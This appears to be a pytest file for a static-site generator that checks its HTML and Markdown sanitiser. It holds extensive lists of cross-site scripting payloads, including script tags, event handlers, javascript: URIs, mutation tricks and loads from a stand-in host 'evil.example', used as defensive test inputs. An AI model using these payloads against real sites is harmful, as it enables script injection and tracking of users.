"""What no author can do: whatever stands in a page or in the data, readers get text, and nothing that acts."""

from __future__ import annotations

import json
import re
from collections.abc import Mapping
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from annals import fields
from annals.blocks import BLOCKS
from annals.diagnostics import Report
from annals.markdown.cleaning import (
    ATTRIBUTES,
    FRAGMENT_ATTRIBUTES,
    FRAGMENT_TAGS,
    TAGS,
    clean_page,
)
from annals.markdown.extension import AnnalsExtension
from annals.markdown.placing import placed
from annals.markdown.tokens import citation, href
from annals.pages import pages
from annals.project import Project, read_project
from annals.schema import PROSE_FIELDS
from annals.site import Context, Site
from hypothesis import given, settings
from hypothesis import strategies as st
from jinja2 import Environment
from markdown import Markdown
from markupsafe import Markup

SCHEMES = {"", "http", "https", "doi"}

# What the generator puts into a page beside what an author may write: marks, lists of references, links.
MADE_TAGS = {"section"}
MADE_ATTRIBUTES = {
    "*": {"class", "id"},
    "a": {"href", "rel", "aria-label", "data-place"},
    "section": {"aria-labelledby"},
}
# What acts, or loads what acts. Generated pages hold more than authors may write, but none of these.
ACTING_TAGS = {
    *("script", "style", "iframe", "frame", "object", "embed", "applet", "base", "meta", "link"),
    *("math", "foreignobject", "template", "noscript", "textarea", "plaintext", "xmp", "marquee"),
}
ADDRESSES = {"href", "src", "xlink:href", "action", "formaction", "srcset", "poster", "data"}

HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img src='\\\\evil.example/pixel.gif'>",
    "<img src='/\t/evil.example/pixel.gif'>",
    "<img src=a.png srcset='https://evil.example/a.png 2x'>",
    "<p onclick=alert(1) style='position:fixed'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd' target=_blank ping=//evil.example>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>body{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example';",
    "<link rel=stylesheet href=//evil.example>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=q><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<video poster=javascript:alert(1)><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<div><p><table><td><a href=x>",
    "<a href='x\" onmouseover=\"alert(1)'>x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<table background=javascript:alert(1)><td style='x:expression(alert(1))'>x</table>",
    "<span class=val>99 %</span><span class='checked x'>so</span><sup class=cites><a class=cite id=cite-1 href=#ref-1>1</a></sup>",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&#58;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]( javascript:alert(1) 'title')",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](y.png)',
    "<javascript://x%0aalert(1)>",
    "[x](y){onclick=alert(1) style='position:fixed' .ok #ok}",
    "# x {onclick=alert(1) data-toc-label='<img src=x onerror=alert(1)>'}",
    "# <img src=x onerror=alert(1)> & <script>alert(1)</script>",
    "text\n{: onmouseover=alert(1) }",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '!!! note "<script>alert(1)</script>"\n    <img src=x onerror=alert(1)>',
    "| <script>alert(1)</script> |\n|---|\n| [x](javascript:alert(1)) |",
    '[x](https://example.org/ "</a><script>alert(1)</script>")',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '{value}`<script>alert(1)</script>` {x<y}`z` {diff}`"><img src=x onerror=alert(1)>`',
    '[@survey, <img src=x onerror=alert(1)>] [@survey, " onmouseover="alert(1)] [@<script>]',
    '[<script>alert(1)</script>]{check="a/b > <img src=x onerror=alert(1)>"}',
    "[<img src=x onerror=alert(1)>][north-bridge]",
    "/// sources | <script>alert(1)</script>\n    by: <img src=x onerror=alert(1)>\n///",
    "/// <script>\n///",
    "{{ 7 * 7 }} {% include 'x' %} {# x #} ${7 * 7} <%= 7 * 7 %>",
]
FORGED = [
    "\x02c:survey|x\x03",
    "\x02u:javascript:alert(1)\x03",
    "&#2;c:survey|x&#3;",
    "<a href='&#2;u:javascript:alert(1)&#3;'>x</a>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03lt;script>",
    "&#x2;wzxhzdk:0&#x3; &#2;klzzwxh:0000&#3;",
    "\ue000" + "0" * 24 + "n0\ue001",
    "<div>\ue000" + "f" * 24 + "n0\ue001</div>",
]
EVERYTHING = [*HTML, *MARKDOWN, *FORGED]


class Elements(HTMLParser):
    """Every tag with its attributes, and the text of some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        """Note text."""
        self.text += data

    def handle_comment(self, data: str) -> None:
        """Note a comment like a tag: none should be left."""
        self.tags.append(("!--", {data: None}))

    handle_decl = handle_pi = unknown_decl = handle_comment


def scheme(address: str) -> str:
    """The scheme that a browser sees in an address, after it has taken out what its standard says.

    https://url.spec.whatwg.org/#concept-basic-url-parser
    """
    bare = re.sub(r"[\t\n\r]", "", address.strip("".join(map(chr, range(33))))).lower()
    found = re.match(r"([a-z][a-z0-9+.-]*):", bare)
    return found[1] if found else ""


def offences(
    html: str, tags: set[str] | frozenset[str], attributes: Mapping[str, Any]
) -> list[str]:
    """All that is in some HTML and not on the lists."""
    found = []
    for tag, written in Elements(html).tags:
        allowed = {*attributes.get("*", ()), *attributes.get(tag, ())}
        if tag not in tags:
            found.append(f"<{tag}>")
        for name, value in written.items():
            if name not in allowed:
                found.append(f"{tag} {name}")
            if name in ADDRESSES and scheme(value or "") not in SCHEMES:
                found.append(f"{tag} {name}={value}")
            if name in ADDRESSES - {"href"} and re.match(r"[a-z]+:|\s*[/\\]\s*[/\\]", value or ""):
                found.append(f"{tag} {name}={value}")
    return found


def acting(html: str) -> list[str]:
    """All in a generated page that would act in a reader's browser."""
    found = []
    for tag, written in Elements(html).tags:
        found += [f"<{tag}>"] if tag in ACTING_TAGS else []
        for name, value in written.items():
            if name.startswith("on") or name in ("style", "srcdoc", "ping", "http-equiv"):
                found.append(f"{tag} {name}")
            if name in ADDRESSES and scheme(value or "") not in SCHEMES:
                found.append(f"{tag} {name}={value}")
    return found


def union(*lists: Mapping[str, Any]) -> dict[str, set[str]]:
    """Several lists of attributes as one."""
    joined: dict[str, set[str]] = {}
    for each in lists:
        for tag, names in each.items():
            joined.setdefault(tag, set()).update(names)
    return joined


EXTENSIONS = [
    *("admonition", "attr_list", "tables", "toc", "footnotes", "def_list", "abbr", "md_in_html"),
    *("pymdownx.highlight", "pymdownx.superfences", "pymdownx.details"),
]
PAGE_TAGS = TAGS | MADE_TAGS
PAGE_ATTRIBUTES = union(ATTRIBUTES, MADE_ATTRIBUTES, {"a": {"rel"}})
TEXT_TAGS = FRAGMENT_TAGS | MADE_TAGS | {"h2"}
TEXT_ATTRIBUTES = union(FRAGMENT_ATTRIBUTES, MADE_ATTRIBUTES)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, shared_files: Mapping[str, str]) -> Site:
    """The small sound project, with all blocks."""
    return Site(_read(tmp_path_factory.mktemp("sound"), shared_files).record, BLOCKS)


def _read(root: Path, files: Mapping[str, str]) -> Project:
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return read_project(root, Report())


def convert(site: Site, text: str, url: str = "a/") -> tuple[str, Markdown]:
    """A text as a page."""
    md = Markdown(extensions=[*EXTENSIONS, AnnalsExtension(site, Context(url=url))])
    return md.convert(text), md


@pytest.mark.parametrize("text", EVERYTHING)
@pytest.mark.parametrize("around", ["{}", "Words {} more [@survey].", "- {}\n\n> {}", "# A {}"])
def test_a_page_holds_nothing_that_is_not_on_the_list(site: Site, text: str, around: str):
    """Raw HTML, Markdown, attribute lists and block options: one cleaning stands behind them all."""
    html, md = convert(site, around.replace("{}", text))
    assert offences(html, PAGE_TAGS, PAGE_ATTRIBUTES) == []
    assert offences(md.toc, PAGE_TAGS, PAGE_ATTRIBUTES) == []
    assert "\x02" not in html
    assert "\x03" not in html


@pytest.mark.parametrize("text", EVERYTHING)
def test_a_heading_brings_nothing_into_the_table_of_contents(site: Site, text: str):
    """A theme prints the names of headings as they are."""
    _, md = convert(site, f"# A {text}\n\n## B\n\nC")
    for token in md.toc_tokens:
        assert Elements(token["name"]).tags == []
        assert (
            offences(token["html"], FRAGMENT_TAGS, union(FRAGMENT_ATTRIBUTES, {"a": {"rel"}})) == []
        )


@pytest.mark.parametrize("text", [*HTML, *FORGED])
def test_what_is_cleaned_stays_as_it_is(text: str):
    """A second parser finds in it what the first one left: no mutation brings anything back."""
    once = clean_page(text)
    assert clean_page(once) == once


SOUP = st.lists(
    st.sampled_from(
        [
            *(
                "<",
                ">",
                "</",
                "/>",
                "<!--",
                "-->",
                '"',
                "'",
                "=",
                " ",
                "\n",
                "\n\n",
                "&",
                ";",
                "&#",
                "`",
            ),
            *("a", "img", "svg", "math", "style", "script", "table", "p", "title", "noscript", "x"),
            *(
                " href=",
                " src=",
                " onerror=",
                " id=",
                " class=",
                "javascript:",
                "//e",
                "\x02",
                "\x03",
            ),
            *(
                "[",
                "](",
                ")",
                "{",
                "}",
                "[@survey]",
                "{value}`north-bridge/length`",
                "*",
                "<b>",
                "\\",
            ),
        ]
    ),
    max_size=14,
).map("".join)


@settings(max_examples=300)
@given(text=SOUP)
def test_no_soup_of_tags_gets_through(site: Site, text: str):
    """Not only the tricks that are known."""
    html, _ = convert(site, text)
    assert offences(html, PAGE_TAGS, PAGE_ATTRIBUTES) == []


@pytest.mark.parametrize("text", FORGED)
def test_a_forged_mark_or_token_stands_for_nothing(site: Site, text: str):
    """Only a reference that was answered becomes a citation or an address of ours."""
    html, _ = convert(site, f"A {text} b {{value}}`north-bridge/length`")
    assert html.count('class="cite"') == 1
    assert html.count("north-bridge") == 1


def test_half_a_token_does_not_outlive_the_cleaning():
    """What an entity hid is a character after the cleaning, and is taken out at once."""
    assert clean_page("a&#2;b&#x3;c<i title='&#2;'>d</i>") == "abcd"


def test_a_citation_never_stands_in_an_attribute(site: Site):
    """A template that puts a text's words into an attribute loses the citation, and nothing else."""
    words = site.text("Said [@survey].").striptags()
    html = placed(Markup('<p title="{}">x</p>').format(words), site, Context())
    assert html == '<p title="Said .">x</p>'


def test_only_the_generator_says_checked(site: Site):
    """An author's HTML cannot look like a value of the record, a checked sentence or a citation."""
    html, _ = convert(site, HTML[-1])
    assert html == (
        '<p><span class="">99 %</span><span class="x">so</span>'
        '<sup class=""><a class="" href="#ref-1" rel="noopener">1</a></sup></p>'
    )


def test_template_braces_are_text(site: Site):
    """No text is run through a template language."""
    html, _ = convert(site, "{{ 7 * 7 }} and {% raw %}")
    assert html == "<p>{{ 7 * 7 }} and {% raw %}</p>"


# The data


def hostile(line: str, text: str) -> dict[str, str]:
    """The files of a project in which every line is `line` and every prose field is `text`."""
    said, told = json.dumps(line), json.dumps(text)
    return {
        "mkdocs.yml": "site_name: x\nextra: {annals: {as_of: 2024-06-30, kinds: {works: Works}}}",
        "data/conditions/all.yml": f"- {{id: load, name: {said}, summary: {told}, choices: {{full: {said}}}, words: {said}}}",
        "data/properties/all.yml": f"""
- {{id: length, name: {said}, summary: {told}, type: quantity, unit: {said}}}
- {{id: strength, name: {said}, summary: {told}, caveats: {told}, type: quantity, kind: measured, direction: higher}}
- {{id: word, name: {said}, summary: {told}, type: text}}
- {{id: state, name: {said}, summary: {told}, type: choice, choices: {{good: {said}, bad: {said}}}}}
""",
        "data/entities/all.yml": f"""
- {{id: bridge, kind: product, name: {said}, also: [{said}], summary: {told}, owned_by: [{{owner: office, share: {said}}}]}}
- {{id: office, kind: organisation, name: {said}, summary: {told}}}
""",
        "data/facts/survey.yml": f"""
note: {told}
source: {{title: {said}, type: report, publisher: office, authors: [{said}], issued: 2024, unpublished: {said}, tier: press, read: full, caution: {told}, note: {told}}}
claims:
  - {{subject: bridge, property: length, value: 3, place: {said}, named: {said}, printed: x, note: {told}}}
  - {{subject: bridge, property: length, value: 4, place: {said}}}
  - {{subject: bridge, property: word, value: {said}, place: {said}}}
  - {{subject: bridge, property: state, value: good}}
  - {{subject: bridge, property: length, value: 9, kind: promise, due: 2025, outcome: {told}}}
tables:
  - place: {said}
    note: {told}
    evaluator: office
    columns: [bridge]
    rows: [{{property: strength, conditions: {{load: full}}, values: [{{value: 5, named: {said}}}], note: {told}}}]
""",
        "data/events/all.yml": f"""
- {{id: opens, title: {said}, when: 2024-01, kind: works, importance: 3, about: [bridge], text: {told}, cites: [{{source: survey, place: {said}}}]}}
- {{id: closes, title: {said}, when: 2024-02, kind: works, about: [bridge], text: {told}}}
""",
        "data/rulings/all.yml": f"- {{id: one, finding: bridge/length, prefer: {{source: survey, value: '3'}}, because: {told}, seen: ['3', '4'], decided: 2024}}",
        "data/lookalikes/all.yml": f"- {{id: two, title: {said}, text: {told}, findings: [bridge/length, 'bridge/strength?load=full']}}",
        "data/redirects/all.yml": f"- {{id: old, to: bridge, kind: moved, decided: 2024, because: {told}}}",
    }


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """A project in which every field of every record is an attack."""
    # Control characters do not even get past the reader of files.
    texts = [re.sub("[\x01-\x03]", "", text) for text in EVERYTHING]
    line = " ".join(" ".join(text.split()) for text in texts)
    with pytest.MonkeyPatch.context() as patch:
        # All attacks in one field are longer than a field may be.
        for limit in ("LONGEST_TITLE", "LONGEST_LINE", "LONGEST_TEXT"):
            patch.setattr(fields, limit, 1_000_000)
        project = _read(tmp_path_factory.mktemp("hostile"), hostile(line, "\n\n".join(texts)))
    assert len(project.record.claims) == 6
    assert len(project.record.events) == 2
    return project


def test_every_prose_field_of_the_data_is_tried(hostile_project: Project):
    """A field that is added to the schema has to be added here."""
    prose = [(model, name) for model, names in PROSE_FIELDS.items() for name in names]
    tried = set()
    for _, where, _ in hostile_project.prose():
        _, path = where
        tried.add(path[-1])
    assert tried == {name for _, name in prose}


@pytest.mark.parametrize("text", EVERYTHING)
def test_a_text_of_the_data_holds_nothing_that_is_not_on_its_list(site: Site, text: str):
    """A text of the data is running text: what looks like HTML in it is shown as it is written."""
    for around in (text, f"Words {text} [@survey].\n\n- {text}"):
        html = placed(site.text(around), site, Context(url="a/"))
        assert offences(html, TEXT_TAGS, TEXT_ATTRIBUTES) == []


def test_every_text_of_the_data_is_harmless(hostile_project: Project):
    """The same for the very texts that were read from files."""
    hostile_site = Site(hostile_project.record, BLOCKS)
    for _, _, text in hostile_project.prose():
        html = placed(hostile_site.text(text), hostile_site, Context(url="a/"))
        assert offences(html, TEXT_TAGS, TEXT_ATTRIBUTES) == []
        assert "<script>alert(1)</script>" in Elements(html).text


def test_every_generated_page_is_harmless(hostile_project: Project):
    """Titles, names, places, units, choices: whatever field a template prints, and wherever."""
    hostile_site = Site(hostile_project.record, BLOCKS)
    made = [page for page in pages(hostile_site) if page.uri.endswith(".md")]
    assert {"entities/bridge.md", "sources/survey.md"} <= {page.uri for page in made}
    for page in made:
        text = re.sub(r"\A---\n.*?\n---\n", "", page.content, flags=re.DOTALL)
        html, _ = convert(hostile_site, text, page.uri.removesuffix(".md") + "/")
        assert acting(html) == [], page.uri


LINE = Environment(autoescape=True).from_string(
    '<p title="{{ line }}">{{ line }}{{ cite("survey", line) }}</p>'
    '<a href="{{ href(line) }}">{{ line }}</a>'
)


@pytest.mark.parametrize("line", [" ".join(text.split()) for text in EVERYTHING])
def test_a_plain_line_is_text_wherever_a_template_puts_it(site: Site, line: str):
    """In an attribute, in text, as a citation's place and as an address; not even a token gets out of its quotes."""
    html = placed(LINE.render(line=line, cite=citation, href=href), site, Context(url="a/"))
    found = Elements(html)
    assert [tag for tag, _ in found.tags[:4]] == ["p", "sup", "a", "a"]
    shown = line.replace("\x02", "").replace("\x03", "")
    assert found.tags[0][1] == {"title": shown}
    assert found.text.startswith(f"{shown}1{shown}")
    assert found.tags[2][1]["data-place"] == shown.replace("\x01", "")
    assert scheme(found.tags[3][1]["href"] or "") in SCHEMES
    assert not re.match(r"[/\\]{2}", found.tags[3][1]["href"] or "")
